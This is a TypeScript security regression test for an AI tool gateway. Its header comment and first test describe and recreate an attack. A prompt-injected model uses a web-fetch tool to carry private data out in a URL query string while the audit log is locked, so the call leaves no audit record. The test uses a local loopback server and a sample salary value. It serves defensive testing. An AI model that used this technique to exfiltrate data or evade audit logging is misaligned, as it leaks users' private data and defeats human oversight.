// Attack: send data out while the audit log cannot commit. A `read` tool runs without an intent
// record (only `write`/`destructive` tools commit one first, stages/audit-intent.ts), so while
// the audit store refuses writes a read tool still runs, and only its final record fails. For
// web_fetch (class `read`) "running" is an outbound request whose URL the caller chose: a
// prompt-injected model can put private data in a query string and it leaves the gateway with
// no audit record at all (the caller gets a 500, the receiver has the data).
// Seen failing: with the audit database locked by another writer, the receiving server got
// `GET /?leak=…` and the audit log holds no record of the call.
//
// Fixed: a `read` tool that reaches outside the gateway (an upstream tool, or one labelled
// untrusted-source / external-sink) commits its intent record first, like a write
// (mcp/stages/audit-intent.ts); while that commit fails it does not run (503).
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import { auditTip, legacyToolCall, recordsAfter } from '../helpers/audit-records.js';
import { postMcp, startTestGateway, type TestGateway } from '../helpers/gateway.js';

describe('attack: a read tool sends data out while the audit log cannot commit', () => {
  let t: TestGateway;
  let key: string;
  let site: http.Server;
  let base: string;
  const received: string[] = [];

  before(async () => {
    site = http.createServer((req, res) => {
      received.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
    t = await startTestGateway({
      // The operator's deliberate exception for a loopback site (as in test/e2e/output-safety).
      env: {
        PORTCULLIS_TOOLS__WEB_FETCH__ALLOW_HOSTS: '127.0.0.1',
        PORTCULLIS_TOOLS__WEB_FETCH__ALLOW_HTTP_HOSTS: '127.0.0.1',
        PORTCULLIS_TOOLS__WEB_FETCH__ALLOW_ADDRESSES: '127.0.0.1/32',
      },
    });
    key = (await t.key()).key;
  });
  after(async () => {
    await t.close();
    site.closeAllConnections();
    await new Promise((r) => site.close(r));
  });

  it('no request leaves the gateway without its audit record', async () => {
    const tip = await auditTip(t);
    const lock = new Database(path.join(t.dataDir, 'audit.db'));
    lock.pragma('busy_timeout = 0');
    lock.exec('BEGIN IMMEDIATE');
    let status: number;
    try {
      const res = await postMcp(
        t.url,
        legacyToolCall('web_fetch', { url: `${base}/?leak=alice-salary-93000` }),
        {
          key,
        },
      );
      status = res.status;
      await res.text();
    } finally {
      lock.exec('ROLLBACK');
      lock.close();
    }
    const leaked = received.filter((u) => u.includes('leak='));
    const records = (await recordsAfter(t, tip, 'tool-call')).filter((r) => r.tool === 'web_fetch');
    assert.ok(
      leaked.length === 0 || records.length > 0,
      `answered ${status}; the site received ${JSON.stringify(leaked)}; records of the call: ${records.length}`,
    );
  });

  it('the legitimate use beside it: with the audit log healthy the fetch runs and is recorded', async () => {
    const tip = await auditTip(t);
    const res = await postMcp(t.url, legacyToolCall('web_fetch', { url: `${base}/fine` }), { key });
    assert.equal(res.status, 200);
    await res.text();
    assert.ok(received.includes('/fine'));
    const records = (await recordsAfter(t, tip, 'tool-call')).filter((r) => r.tool === 'web_fetch');
    assert.equal(records.length, 1);
    assert.equal(records[0]!.outcome, 'ok');
  });
});
